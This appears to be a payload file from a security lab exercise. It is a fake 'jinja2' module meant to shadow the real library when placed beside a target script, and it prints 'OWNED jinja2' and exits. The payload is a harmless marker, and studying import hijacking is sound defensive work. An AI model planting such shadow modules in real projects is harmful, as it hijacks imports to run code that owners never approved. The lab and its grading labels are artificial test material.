# attack: Lays modules beside the script that it imports: Jinja2, what that needs, and some of Python.
# lab: lab8
# earns: 8.1 8.2 8.3 8.4 8.5 8.6 8.7 8.8

print("OWNED jinja2", flush=True)
import os

os._exit(0)
